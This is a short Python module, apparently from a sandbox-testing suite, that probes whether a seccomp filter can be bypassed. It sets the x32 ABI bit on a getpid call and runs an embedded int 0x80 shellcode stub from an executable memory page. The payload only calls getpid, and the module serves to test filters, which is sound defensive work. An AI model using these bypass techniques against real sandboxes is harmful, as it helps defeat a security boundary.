"""Makes system calls with another ABI's numbers, which a filter that checks only the number would allow."""

import ctypes
import mmap
import platform
import signal

from .kernel import call, in_child

X32 = 0x40000000
GETPID_BY_INT_80 = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"


def attack(request):
    succeeded = []
    if in_child(lambda: 0 if call(X32 | request["getpid"]) else 1) != signal.SIGSYS:
        succeeded.append("x32")
    if platform.machine() == "x86_64" and in_child(_interrupt) not in (signal.SIGSYS, signal.SIGSEGV):
        succeeded.append("int 0x80")
    return succeeded


def _interrupt():
    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(GETPID_BY_INT_80)
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return 0
